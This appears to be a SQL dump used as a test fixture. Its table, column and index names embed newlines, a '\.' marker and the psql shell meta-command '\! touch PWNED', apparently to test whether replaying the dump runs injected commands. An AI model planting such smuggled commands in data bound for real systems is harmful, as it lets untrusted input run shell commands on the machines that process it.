PRAGMA foreign_keys=OFF;
BEGIN TRANSACTION;
CREATE TABLE "x
\! touch PWNED
"(id INTEGER PRIMARY KEY, "x
\! touch PWNED
" TEXT);
INSERT INTO "x
\! touch PWNED
" VALUES(0,'0');
CREATE INDEX "ix
\! touch PWNED
" ON "x
\! touch PWNED
"("x
\! touch PWNED
");
CREATE TABLE "\! touch PWNED"(id INTEGER PRIMARY KEY, "\! touch PWNED" TEXT);
INSERT INTO "\! touch PWNED" VALUES(1,'1');
CREATE INDEX "i\! touch PWNED" ON "\! touch PWNED"("\! touch PWNED");
CREATE TABLE "
\.
\! touch PWNED
"(id INTEGER PRIMARY KEY, "
\.
\! touch PWNED
" TEXT);
INSERT INTO "
\.
\! touch PWNED
" VALUES(2,'2');
CREATE INDEX "i
\.
\! touch PWNED
" ON "
\.
\! touch PWNED
"("
\.
\! touch PWNED
");
COMMIT;
